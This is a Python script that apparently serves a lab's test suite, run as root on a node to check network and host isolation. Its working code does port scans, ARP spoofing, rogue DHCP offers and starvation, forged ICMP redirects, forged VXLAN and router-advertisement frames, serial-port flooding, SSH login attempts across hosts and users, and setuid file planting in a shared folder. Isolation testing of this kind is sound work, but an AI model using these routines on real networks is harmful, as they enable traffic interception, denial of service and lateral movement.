"""What root of a node sends in an attack. A program for nodes: standard library only, tests pass it to python3 -c.

Its argument is JSON:
  seconds      how long the floods last at least: they end with the input of the program
  tcp, udp     the ports that it scans, as pairs of the first and the last one
  scanned      the addresses that it scans
  claimed      pairs of an interface and an address that it claims by ARP
  redirected   pairs of a gateway and an address in whose place it sends ICMP redirects
  underlay     the addresses of servers to which it sends VXLAN packets, with each of `vnis`
  frames       frames that it sends by both interfaces, in hexadecimal digits
  hosts        the hosts at which it logs in as each of `users`
  shared       the shared folder, in which it writes as each of `uids`
It prints what answered as JSON. For each scan: the ports that answered, by how they did; and for each flood: how often
it was sent, and the errors.
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import random
import resource
import select
import socket
import struct
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

INTERFACES = "lab0", "mgmt0"
BATCH, PATIENCE_S = 4000, 4.0  # sockets that wait for answers at once, and how long they wait for the next one
END = Path("/run/attack-ends")
DHCP_SOURCES = 67, 1067  # ports from which it sends DHCP offers: clients accept any
BROADCAST, MARK = b"\xff" * 6, b"\x88\xb5"  # the type of frames inside forged VXLAN packets (IEEE 802: experiments)
# Asks for the TXT record `vcluster` (RFC 1035).
QUESTION = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + b"\x08vcluster\0" + struct.pack(">2H", 16, 1)

Result = dict[str, Any]


# Scans


def scan(kind: int, address: str, ranges: list[tuple[int, int]]) -> Result:
    """The ports that answer, by their answer: "open", or the name of the error. Silent ports are only counted."""
    began, answers = time.monotonic(), dict[str, list[int]]()
    ports = sorted({port for first, last in ranges for port in range(first, last + 1)})
    silent = 0
    for start in range(0, len(ports), BATCH):
        batch = ports[start : start + BATCH]
        found = scan_batch(kind, address, batch)
        silent += len(batch) - len(found)
        for port, answer in found.items():
            answers.setdefault(answer, []).append(port)
    seconds = round(time.monotonic() - began, 1)
    return {"silent": silent, "seconds": seconds, **{answer: runs(sorted(found)) for answer, found in answers.items()}}


def runs(ports: list[int]) -> list[tuple[int, int]]:
    """Consecutive ports as pairs of the first and the last one."""
    found: list[tuple[int, int]] = []
    for port in ports:
        if found and found[-1][1] == port - 1:
            found[-1] = found[-1][0], port
        else:
            found.append((port, port))
    return found


def scan_batch(kind: int, address: str, ports: list[int]) -> dict[int, str]:
    answers: dict[int, str] = {}
    waiting: dict[int, tuple[int, socket.socket]] = {}
    wait = select.epoll()
    for port in ports:
        opened = socket.socket(socket.AF_INET, kind)
        opened.setblocking(False)
        code = opened.connect_ex((address, port))
        if kind == socket.SOCK_DGRAM:
            with contextlib.suppress(OSError):
                opened.send(QUESTION)
        elif code not in (0, errno.EINPROGRESS):
            answers[port] = errno.errorcode[code]
        waiting[opened.fileno()] = port, opened
        wait.register(opened, select.EPOLLIN if kind == socket.SOCK_DGRAM else select.EPOLLOUT)
    while waiting and (ready := wait.poll(PATIENCE_S)):
        for number, _ in ready:
            port, opened = waiting.pop(number)
            code = opened.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            answers[port] = errno.errorcode[code] if code else "open"
            wait.unregister(number)
            opened.close()
    for _, opened in waiting.values():
        opened.close()
    wait.close()
    return answers


# Frames


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~((total >> 16) + total) & 0xFFFF


def ip_packet(protocol: int, source: str, target: str, body: bytes) -> bytes:
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0)
    head += socket.inet_aton(source) + socket.inet_aton(target)
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + body


def ip_frame(source_mac: bytes, packet: bytes) -> bytes:
    return BROADCAST + source_mac + b"\x08\x00" + packet


def claims(mac: bytes, address: str) -> list[bytes]:
    """A gratuitous request and reply: this MAC has the address."""
    raw = socket.inet_aton(address)
    head = BROADCAST + mac + b"\x08\x06"
    return [
        head + struct.pack(">HHBBH", 1, 0x800, 6, 4, operation) + mac + raw + target + raw
        for operation, target in ((1, bytes(6)), (2, BROADCAST))
    ]


def dhcp(mac: bytes, operation: int, kind: int, server: str = "0.0.0.0", source: int = 67) -> bytes:
    """A DHCPDISCOVER of a host that does not exist, or a DHCPOFFER of another server, from this port (RFC 2131)."""
    offered = socket.inet_aton("10.0.0.66" if operation == 2 else "0.0.0.0")
    bootp = struct.pack(">4BIHH4x4s8x6s202x", operation, 1, 6, 0, random.getrandbits(32), 0, 0x8000, offered, mac)
    bootp += b"\x63\x82\x53\x63" + bytes([53, 1, kind])
    if operation == 2:
        raw = socket.inet_aton(server)
        bootp += b"".join(bytes([code, 4]) + raw for code in (54, 3, 6)) + b"\x33\x04\0\0\x0e\x10"
    ports = (source, 68) if operation == 2 else (68, 67)
    udp = struct.pack(">4H", *ports, 8 + len(bootp) + 1, 0) + bootp + b"\xff"
    return ip_frame(mac, ip_packet(17, server, "255.255.255.255", udp))


def redirect(mac: bytes, gateway: str, victim: str, route: str, own: str) -> bytes:
    """An ICMP redirect in the name of the gateway: the victim shall reach `route` by this node (RFC 792)."""
    about = ip_packet(1, victim, route, struct.pack(">4H", 0, 0xFFFE, 1, 0))  # an echo reply, which needs no socket
    body = struct.pack(">BBH4s", 5, 1, 0, socket.inet_aton(own)) + about
    body = body[:2] + struct.pack(">H", checksum(body)) + body[4:]
    return ip_frame(mac, ip_packet(1, gateway, victim, body))


def own(interface: str) -> tuple[bytes, str]:
    """The MAC and the address of an interface."""
    mac = bytes.fromhex(Path(f"/sys/class/net/{interface}/address").read_text().strip().replace(":", ""))
    shown = json.loads(
        subprocess.run(["ip", "-j", "-4", "addr", "show", interface], capture_output=True, check=True).stdout
    )
    return mac, shown[0]["addr_info"][0]["local"]


# Floods


def flood(steps: Iterable[Callable[[], object]]) -> Result:
    """Take each of the steps again and again, until the end; an error does not end it."""
    errors: Counter[str] = Counter()
    sent, steps = 0, [*steps]
    while not END.exists():
        for step in steps:
            try:
                step()
                sent += 1
            except OSError as error:
                errors[errno.errorcode.get(error.errno or 0, str(error))] += 1
                if isinstance(error, BlockingIOError):
                    time.sleep(0.001)  # what it writes to is full
    return {"sent": sent, "errors": dict(errors)}


def sender(interface: str, frame: bytes) -> Callable[[], object]:
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    return lambda: wire.send(frame)


def discover(interface: str) -> Callable[[], object]:
    """Send a DHCPDISCOVER of another host each time."""
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    return lambda: wire.send(dhcp(b"\x02\xdd" + random.randbytes(4), 1, 1))


def vxlan(address: str, vni: int) -> Callable[[], object]:
    outgoing = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    frame = BROADCAST + b"\x02\0\0\0\x66\x66" + MARK + b"forged" * 10
    packet = struct.pack(">BxxxI", 8, vni << 8) + frame
    return lambda: outgoing.sendto(packet, (address, 4789))


def serial_ports() -> list[Path]:
    return [Path("/dev/ttyS0"), *sorted(Path("/dev/virtio-ports").glob("*"))]


def writer(port: Path) -> Callable[[], object] | None:
    """Write garbage, half of it in lines, or None if a program of the node has the port."""
    with contextlib.suppress(OSError):
        opened = os.open(port, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
        piece = os.urandom(2048) + b'{"id":1,"out":"x"}\n' * 108
        return lambda: os.write(opened, piece)
    return None


def floods(request: Result) -> dict[str, list[Callable[[], object]]]:
    macs = {interface: own(interface) for interface in INTERFACES}
    serial = {f"serial port {port.name}": writer(port) for port in serial_ports()}
    return {
        "router advertisements": [
            sender(interface, bytes.fromhex(frame)) for frame in request["frames"] for interface in INTERFACES
        ],
        "ARP": [
            sender(interface, frame)
            for interface, address in request["claimed"]
            for frame in claims(macs[interface][0], address)
        ],
        "DHCP offers": [
            sender(name, dhcp(mac, 2, 2, address, source))
            for name, (mac, address) in macs.items()
            for source in DHCP_SOURCES
        ],
        "DHCP requests": [discover(interface) for interface in INTERFACES],
        "ICMP redirects": [
            sender("mgmt0", redirect(macs["mgmt0"][0], gateway, victim, "203.0.113.5", macs["mgmt0"][1]))
            for gateway, victim in request["redirected"]
        ],
        "VXLAN": [vxlan(address, vni) for address in request["underlay"] for vni in request["vnis"]],
        **{name: [step] for name, step in serial.items() if step},
    }


# Logins and files


def logins(hosts: list[str], users: list[str], key: str) -> Result:
    """The output of `id -un` for each user of each host, by the key of the cluster's user; "" if refused."""
    options = ["-o", "BatchMode=yes", "-o", "ConnectTimeout=60", "-i", key]

    def attempt(host: str, user: str) -> str:
        argv = ["ssh", *options, f"{user}@{host}", "id -un"]
        done = subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, text=True, check=False)
        return done.stdout.strip()

    return {f"{user}@{host}": attempt(host, user) for host in hosts for user in users}


def write_as(uid: int, shared: str) -> Result:
    """Write to the shared folder under another uid and gid, and give a file away."""
    os.chdir(shared)  # other users cannot open the home of the cluster's user
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    done: Result = {}
    for name, act in (
        ("write", lambda path: path.write_text("claimed")),
        ("chown", lambda path: os.chown(path, 0, 0)),
        ("setuid", lambda path: path.chmod(0o4755)),
    ):
        try:
            act(Path(f"claimed-{uid}"))
            done[name] = "done"
        except OSError as error:
            done[name] = errno.errorcode[error.errno or 0]
    return done


# All of it


def start(work: Callable[[], Result]) -> int:
    """Run it in another process; returns the end of a pipe with its result."""
    reading, writing = os.pipe()
    if os.fork() == 0:
        os.close(reading)
        with os.fdopen(writing, "w") as output:
            json.dump(work(), output)
            output.flush()
            os._exit(0)
    os.close(writing)
    return reading


def attack(request: Result) -> Result:
    resource.setrlimit(resource.RLIMIT_NOFILE, (BATCH + 1000, BATCH + 1000))
    began = time.monotonic()
    END.unlink(missing_ok=True)
    works: dict[str, Callable[[], Result]] = {}
    for name, steps in floods(request).items():
        works[name] = lambda steps=steps: flood(steps)
    for address in request["scanned"]:
        works[f"tcp {address}"] = lambda to=address: scan(socket.SOCK_STREAM, to, request["tcp"])
        works[f"udp {address}"] = lambda to=address: scan(socket.SOCK_DGRAM, to, request["udp"])
    works["logins"] = lambda: logins(request["hosts"], request["users"], request["key"])
    for uid in request["uids"]:
        works[f"uid {uid}"] = lambda uid=uid: write_as(uid, request["shared"])
    running = {name: start(work) for name, work in works.items()}
    sys.stdin.read()
    time.sleep(max(0.0, began + request["seconds"] - time.monotonic()))
    END.touch()
    found: Result = {}
    for name, reading in running.items():
        with os.fdopen(reading) as stream:
            found[name] = json.loads(stream.read() or '{"failed": true}')
    found["seconds"] = round(time.monotonic() - began, 1)
    return found


if __name__ == "__main__":
    print(json.dumps(attack(json.loads(sys.argv[1]))))
